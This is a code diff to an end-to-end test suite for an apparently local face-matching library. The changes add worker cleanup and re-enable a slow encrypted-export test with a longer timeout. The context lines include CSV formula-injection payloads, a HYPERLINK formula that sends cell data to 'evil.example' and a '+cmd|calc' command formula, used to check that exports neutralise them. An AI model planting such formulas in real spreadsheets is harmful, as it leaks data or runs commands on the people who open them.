@@ -60,6 +60,7 @@ describe('audit CSV (item 9)', () => {
     expect(planted).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(planted.endsWith(`"'+cmd|calc"`)).toBe(true);
     expect((await readDeviceStorage(page)).stores['lawful-csv/audit']).toContainEqual(expect.objectContaining({ id: 'planted', outcome: hostile }));
+    await page.evaluate(() => window.lawful.close()); // its workers must not stay loaded for the rest of the file
   });
 });
 
@@ -290,6 +291,7 @@ describe('restriction of processing (item 2)', () => {
     const { stores } = await readDeviceStorage(page);
     expect((stores[`${db}/people`] as { id: string }[]).map((p) => p.id)).toContain(r.id);
     expect((stores[`${db}/templates`] as { personId: string }[]).filter((t) => t.personId === r.id)).toHaveLength(2);
+    await page.evaluate(() => window.lawful.close());
   });
 
   it('the people list shows the restriction and lifts it (app UI)', async () => {
@@ -486,8 +488,10 @@ describe('persistent storage (item 7)', () => {
 });
 
 describe('encrypted exports (item 6)', () => {
-  // Skipped: passes on its own but failed in a full run after the 2026-12-02 merges (order or timing); to fix next.
-  it.skip('an export sealed under a chosen passphrase reads as nothing, and imports only with that passphrase', async () => {
+  // Three scrypt derivations at N=2^17 (seal, the wrong passphrase, the right one) and two model loads: past the
+  // default two minutes on a loaded 2-core machine (it failed only in full runs). Matchers the earlier tests left
+  // open (their workers and models) are now closed too.
+  it('an export sealed under a chosen passphrase reads as nothing, and imports only with that passphrase', async () => {
     const r = await page.evaluate(async ({ consent, pass }) => {
       const m = await window.facelocal.openMatcher({ databaseName: 'lawful-export-from' });
       const photo = new File([await (await fetch('/__faces/kit_harington/john1.jpeg')).blob()], 'john1.jpeg');
@@ -517,5 +521,5 @@ describe('encrypted exports (item 6)', () => {
     expect(r.audit).toContain('1 people imported');
     const { stores } = await readDeviceStorage(page);
     expect(stores['lawful-export-to/people']).toHaveLength(1);
-  });
+  }, 400_000);
 });
